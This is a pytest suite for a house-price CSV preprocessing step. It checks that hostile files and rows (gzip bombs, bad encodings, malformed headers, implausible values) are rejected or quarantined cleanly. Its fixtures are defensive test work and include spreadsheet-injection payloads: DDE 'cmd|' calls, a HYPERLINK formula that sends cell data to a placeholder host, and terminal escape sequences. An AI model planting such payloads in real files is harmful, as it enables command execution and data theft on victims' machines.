"""Hostile input for the processing step: each file or row must end in one clear answer.

Every case runs the step's command line in-process. What must hold for each:
- no traceback: the step exits 0, or 1 with exactly one line on stderr naming the problem;
- no row lost: the report's `rows_in == rows_clean + rows_quarantined + rows_duplicate`, and a
  recount of quarantine.csv and the written splits gives the same numbers;
- the report is never left at "running": `succeeded`, or `failed` with the same one line.

Big inputs are gzip streams made once per session and cut short by the input limits, so the
whole suite takes seconds.
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from ml_scripts.common.cells import FORMULA_PREFIXES
from ml_scripts.processing.preprocess import main
from testsupport.ml_scripts_testkit import HEADER, REPO_ROOT, ROWS, column, to_csv

HEADER_LINE = to_csv(HEADER, [])
MIB = 1024 * 1024
PRICE_RANGE = "SalePrice: outside the plausible range 1,000 to 10,000,000"


def rows(count: int = 40) -> list[list[str]]:
    """Fresh copies of the embedded data's first rows."""
    return [list(row) for row in ROWS[:count]]


def with_cell(name: str, value: str, at: int = 5) -> bytes:
    """40 good rows, one of them with `name` set to `value` (line `at + 2` of the file)."""
    table = rows()
    table[at][column(name)] = value
    return to_csv(HEADER, table)


def gzip_stream(parts: Iterable[tuple[bytes, int]]) -> bytes:
    """A gzip member of each part repeated, compressed as it goes (nothing held whole)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [compressor.compress(part) for part, times in parts for _ in range(times)]
    return b"".join(out) + compressor.flush()


def corrupted(data: bytes) -> bytes:
    """`data` with 32 bytes of its deflate stream overwritten."""
    return data[:40] + b"\xff" * 32 + data[72:]


@dataclass(frozen=True)
class Case:
    """One hostile input: files to write, extra arguments, and the answer expected."""

    files: Callable[[], dict[str, bytes]]
    # A fragment of the one-line failure, or None when the step must succeed.
    failure: str | None = None
    # Fragments each expected quarantine reason holds (one per quarantined row, in order).
    quarantined: tuple[str, ...] = ()
    arguments: tuple[str, ...] = ()
    duplicates: int = 0
    checks: tuple[Callable[[Path], None], ...] = field(default=())


def one(content: bytes, name: str = "input.csv") -> Callable[[], dict[str, bytes]]:
    return lambda: {name: content}


CASES: dict[str, Case] = {
    # --- input limits --------------------------------------------------------------------------
    "gzip of 1 MB holding one 1 GiB line (default limits)": Case(
        one(gzip_stream([(HEADER_LINE, 1), (b"a" * MIB, 1024), (b"\n", 1)]), "bomb.csv.gz"),
        failure="bomb.csv.gz: line 2 is longer than 1,048,576 bytes (the limit is "
        "--max-line-bytes)",
    ),
    "gzip of 16 MiB of newlines": Case(
        one(gzip_stream([(HEADER_LINE, 1), (b"\n" * MIB, 16)]), "newlines.csv.gz"),
        failure="newlines.csv.gz: too many rows: more than 1,000 lines after the header",
        arguments=("--max-rows", "1000"),
    ),
    "gzip of one good row repeated past the byte limit": Case(
        one(gzip_stream([(HEADER_LINE, 1), (to_csv(HEADER, rows(1))[len(HEADER_LINE) :], 5000)])),
        failure="input.csv: too large: more than 1,048,576 bytes once decompressed",
        arguments=("--max-input-bytes", str(MIB), "--max-rows", "100000"),
    ),
    "more good rows than the row limit": Case(
        one(to_csv(HEADER, rows(40))),
        failure="input.csv: too many rows: more than 30 lines after the header",
        arguments=("--max-rows", "30"),
    ),
    "a plain 2 MiB line": Case(
        one(HEADER_LINE + to_csv(HEADER, rows(3))[len(HEADER_LINE) :] + b"x," * MIB + b"\n"),
        failure="input.csv: line 5 is longer than 1,048,576 bytes",
    ),
    "a quoted field spanning lines beyond the line limit": Case(
        one(HEADER_LINE + b'1,"' + b"spill\n" * 20_000 + b'"\n'),
        failure="input.csv: the record starting at line 2 is longer than 65,536 bytes",
        arguments=("--max-line-bytes", "65536", "--max-rows", "100000"),
    ),
    "the second file of a folder breaks a limit": Case(
        lambda: {
            "a.csv": to_csv(HEADER, rows(20)),
            "b.csv": to_csv(HEADER, rows(40)[20:]) + b"y" * (2 * MIB) + b"\n",
        },
        failure="b.csv: line 22 is longer than 1,048,576 bytes",
        checks=(lambda output: _report_counts(output, rows_in=20, rows_clean=20),),
    ),
    # --- encodings and file shapes -------------------------------------------------------------
    "UTF-16 with a byte order mark": Case(
        one(to_csv(HEADER, rows()).decode().encode("utf-16")),
        failure="input.csv: undecodable bytes: the file is UTF-16, expected UTF-8",
    ),
    "one latin-1 byte": Case(
        one(with_cell("Neighborhood", "Caf\u00e9").decode().encode("latin-1")),
        failure="input.csv: undecodable bytes: line 7 is not valid UTF-8 (byte 0xe9)",
    ),
    "random binary": Case(
        one(bytes(range(256)) * 64),
        failure="undecodable bytes",
    ),
    "an empty file": Case(one(b""), failure="input.csv: empty file"),
    "only newlines": Case(one(b"\n" * 5000), failure="input.csv: empty file"),
    "a header and nothing else": Case(one(HEADER_LINE), failure="header-only file"),
    "semicolons for commas": Case(
        one(b";".join(h.encode() for h in HEADER) + b"\n1;2\n"),
        failure="wrong delimiter: the header is separated by ';'",
    ),
    "a header naming a column twice": Case(
        one(to_csv([*HEADER, "SalePrice"], [[*r, r[-1]] for r in rows()])),
        failure="duplicate column names: ['SalePrice']",
    ),
    "a header without SalePrice": Case(
        one(to_csv(HEADER[:-1], [r[:-1] for r in rows()])),
        failure="missing required column(s): 'SalePrice'",
    ),
    "a NUL inside the header": Case(
        one(HEADER_LINE.replace(b"SalePrice", b"Sale\x00Price") + to_csv(HEADER, rows())[1:]),
        failure="missing required column(s): 'SalePrice'",
    ),
    "a truncated gzip": Case(
        one(gzip.compress(to_csv(HEADER, rows()) * 3)[:3000], "cut.csv.gz"),
        failure="cut.csv.gz: cannot decompress",
    ),
    "a gzip whose deflate stream is corrupt": Case(
        one(corrupted(gzip.compress(to_csv(HEADER, rows()) * 3, mtime=0)), "corrupt.csv.gz"),
        failure="corrupt.csv.gz: cannot decompress",
    ),
    "an unterminated quote": Case(
        one(to_csv(HEADER, rows(3)) + b'1,"never closed\n' + to_csv(HEADER, rows(2))[1:]),
        failure="unterminated quoted field starting at line 5",
    ),
    # --- rows: quarantined with their reason, nothing lost -------------------------------------
    "SalePrice 1e300": Case(
        one(with_cell("SalePrice", "1e300")), quarantined=(f"{PRICE_RANGE} (got 1e+300)",)
    ),
    "SalePrice 1e-300": Case(
        one(with_cell("SalePrice", "1e-300")), quarantined=(f"{PRICE_RANGE} (got 1e-300)",)
    ),
    "SalePrice typed in thousands": Case(
        one(with_cell("SalePrice", "215")), quarantined=(f"{PRICE_RANGE} (got 215)",)
    ),
    "SalePrice 1e999 (overflows to infinity)": Case(
        one(with_cell("SalePrice", "1e999")), quarantined=("SalePrice: not finite",)
    ),
    "SalePrice in full-width digits": Case(
        one(with_cell("SalePrice", "\uff12\uff11\uff15\uff10\uff10\uff10")),
        quarantined=("SalePrice: not a number",),
    ),
    "a living area of a billion square feet": Case(
        one(with_cell("Gr Liv Area", "1e9")),
        quarantined=("Gr Liv Area: outside the plausible range above 0 and at most 50,000",),
    ),
    "a sale in the year 99999": Case(
        one(with_cell("Yr Sold", "99999")),
        quarantined=("Yr Sold: outside the plausible range 1900 to 2100 (got 99,999)",),
    ),
    "ten thousand fields on one line": Case(
        one(to_csv(HEADER, rows(3)) + b"," * 9999 + b"\n"),
        quarantined=("row: too many fields (expected 82, found 10000)",),
    ),
    "a line of one field": Case(
        one(to_csv(HEADER, rows(3)) + b"lonely\n"),
        quarantined=("row: too few fields (expected 82, found 1)",),
    ),
    "one row repeated ten thousand times": Case(
        one(to_csv(HEADER, rows(30) + rows(1) * 10_000)), duplicates=10_000
    ),
    "CRLF line ends with whitespace-only lines": Case(
        one(to_csv(HEADER, rows(), newline="\r\n") + b"   \r\n\t\r\n" * 50)
    ),
    # --- cells a spreadsheet would run, and control characters --------------------------------
    "a DDE command as a neighborhood": Case(
        one(with_cell("Neighborhood", "=cmd|' /C calc'!A0")),
        quarantined=("Neighborhood: starts like a spreadsheet formula (= + - @)",),
        checks=(lambda output: _raw_row_starts(output, f"{ROWS[5][0]},"),),
    ),
    "a HYPERLINK formula": Case(
        one(with_cell("Exterior 2nd", '=HYPERLINK("http://x.example/?"&A1,"click")')),
        quarantined=("Exterior 2nd: starts like a spreadsheet formula",),
    ),
    "an @ function": Case(
        one(with_cell("Exterior 1st", "@SUM(A1:A9)")),
        quarantined=("Exterior 1st: starts like a spreadsheet formula",),
    ),
    "a + formula": Case(
        one(with_cell("Sale Type", "+1+1")),
        quarantined=("Sale Type: starts like a spreadsheet formula",),
    ),
    "a - formula": Case(
        one(with_cell("MS Zoning", "-2+3+cmd|' /C calc'!A0")),
        quarantined=("MS Zoning: starts like a spreadsheet formula",),
    ),
    "a NUL inside a category": Case(
        one(with_cell("Neighborhood", "Nam\x00es")),
        quarantined=("Neighborhood: holds a control character (U+0000)",),
    ),
    "a terminal escape sequence inside a category": Case(
        one(with_cell("Neighborhood", "\x1b]0;owned\x07\x1b[2JNAmes")),
        quarantined=("Neighborhood: holds a control character (U+001B)",),
    ),
    "a right-to-left override inside a category": Case(
        one(with_cell("House Style", "1Story\u202e")),
        quarantined=("House Style: holds a control character (U+202E)",),
    ),
    "a quoted newline inside a category": Case(
        one(with_cell("Exterior 1st", "Vinyl\nSd")),
        quarantined=("Exterior 1st: holds a control character (U+000A)",),
    ),
    "a formula in a quarantined row's first field": Case(
        one(
            to_csv(
                HEADER, rows(4) + [[f"=1+2{i}", *row[1:-1], "-1"] for i, row in enumerate(rows(2))]
            )
        ),
        quarantined=(f"{PRICE_RANGE} (got -1)", f"{PRICE_RANGE} (got -1)"),
        checks=(lambda output: _raw_row_starts(output, "'=1+20,", "'=1+21,"),),
    ),
    "a formula as the file name": Case(
        one(with_cell("SalePrice", "0"), "=1+cmd|'calc'!A0.csv"),
        quarantined=(f"{PRICE_RANGE} (got 0)",),
        checks=(lambda output: _source_files_are(output, "'=1+cmd|'calc'!A0.csv"),),
    ),
}


def _raw_row_starts(output: Path, *starts: str) -> None:
    assert [
        row["raw_row"][: len(start)] for row, start in zip(_quarantine(output), starts, strict=True)
    ] == list(starts)


def _source_files_are(output: Path, name: str) -> None:
    assert {row["source_file"] for row in _quarantine(output)} == {name}


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _report_counts(output: Path, **expected: int) -> None:
    report = json.loads((output / "report" / "processing_report.json").read_text())
    assert {name: report[name] for name in expected} == expected


def _count(path: Path) -> int:
    with path.open(newline="", encoding="utf-8") as handle:
        return sum(1 for _ in csv.reader(handle)) - 1


def _quarantine(output: Path) -> list[dict[str, str]]:
    path = output / "quarantine" / "quarantine.csv"
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_input_gets_one_clear_answer_and_loses_no_row(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = CASES[name]
    source = tmp_path / "input"
    source.mkdir()
    for file_name, content in case.files().items():
        (source / file_name).write_bytes(content)
    output = tmp_path / "out"
    single = len(list(source.iterdir())) == 1
    input_path = next(source.iterdir()) if single else source

    code = main(
        [
            *("--input-dir", str(input_path), "--output-dir", str(output)),
            *("--output-format", "csv", "--max-quarantine-rate", "1"),
            *case.arguments,
        ]
    )

    err = capsys.readouterr().err
    report: dict[str, Any] = json.loads((output / "report" / "processing_report.json").read_text())
    assert report["status"] != "running"
    assert report["rows_in"] == (
        report["rows_clean"] + report["rows_quarantined"] + report["rows_duplicate"]
    )
    assert report["invariant_holds"] is True
    if case.failure is not None:
        assert code == 1
        assert err.count("\n") == 1, err
        assert err.startswith("processing failed: ")
        assert case.failure in err
        assert (report["status"], report["failure"]) == ("failed", err.strip()[19:])
    else:
        assert (code, err, report["status"]) == (0, "", "succeeded")
        splits = sum(_count(output / s / f"{s}.csv") for s in ("train", "validation", "test"))
        assert splits == report["rows_clean"]
        assert report["rows_duplicate"] == case.duplicates
    quarantined = _quarantine(output)
    assert len(quarantined) == report["rows_quarantined"]
    # Nothing written as CSV starts like a formula: not the clean splits, not quarantine.csv.
    written = [output / "quarantine" / "quarantine.csv"]
    written += [output / s / f"{s}.csv" for s in ("train", "validation", "test")]
    assert not [
        cell
        for path in written
        if path.exists()
        for cell in _cells(path)
        if cell.startswith(FORMULA_PREFIXES)
    ]
    assert len(quarantined) == len(case.quarantined) or case.failure is not None
    for row, expected in zip(quarantined, case.quarantined, strict=False):
        assert expected in row["reason"], (row["reason"], expected)
    for check in case.checks:
        check(output)


def test_the_suite_has_at_least_thirty_cases() -> None:
    assert len(CASES) >= 30


def test_the_1_gib_line_fails_as_a_process_with_one_line_and_no_traceback(
    tmp_path: Path,
) -> None:
    """The review's case end to end, as the container runs it: a separate Python process."""
    bomb = tmp_path / "bomb.csv.gz"
    bomb.write_bytes(gzip_stream([(HEADER_LINE, 1), (b"a" * MIB, 1024), (b"\n", 1)]))
    completed = subprocess.run(
        [
            *(sys.executable, "-m", "ml_scripts.processing"),
            *("--input-dir", str(bomb), "--output-dir", str(tmp_path / "out")),
        ],
        cwd=REPO_ROOT,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert completed.returncode == 1
    assert "Traceback" not in completed.stderr
    assert completed.stderr.splitlines()[-1] == (
        "processing failed: bomb.csv.gz: line 2 is longer than 1,048,576 bytes "
        "(the limit is --max-line-bytes)"
    )
    report = json.loads((tmp_path / "out" / "report" / "processing_report.json").read_text())
    assert report["status"] == "failed"
    assert report["limits"] == {
        "max_input_bytes": 10 * 1024**3,
        "max_line_bytes": MIB,
        "max_rows": 20_000_000,
    }


def test_an_unexpected_error_leaves_the_report_failed_not_running(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Out of memory mid-file used to leave "status": "running" and failure null."""

    def exhausted(*_: object, **__: object) -> None:
        raise MemoryError

    monkeypatch.setattr("ml_scripts.processing.preprocess.parse_csv_records", exhausted)
    source = tmp_path / "input.csv"
    source.write_bytes(to_csv(HEADER, rows()))

    code = main(["--input-dir", str(source), "--output-dir", str(tmp_path / "out")])

    assert (code, capsys.readouterr().err) == (1, "processing failed: out of memory\n")
    report = json.loads((tmp_path / "out" / "report" / "processing_report.json").read_text())
    assert (report["status"], report["failure"]) == ("failed", "internal error: MemoryError")
    assert report["invariant_holds"] is True
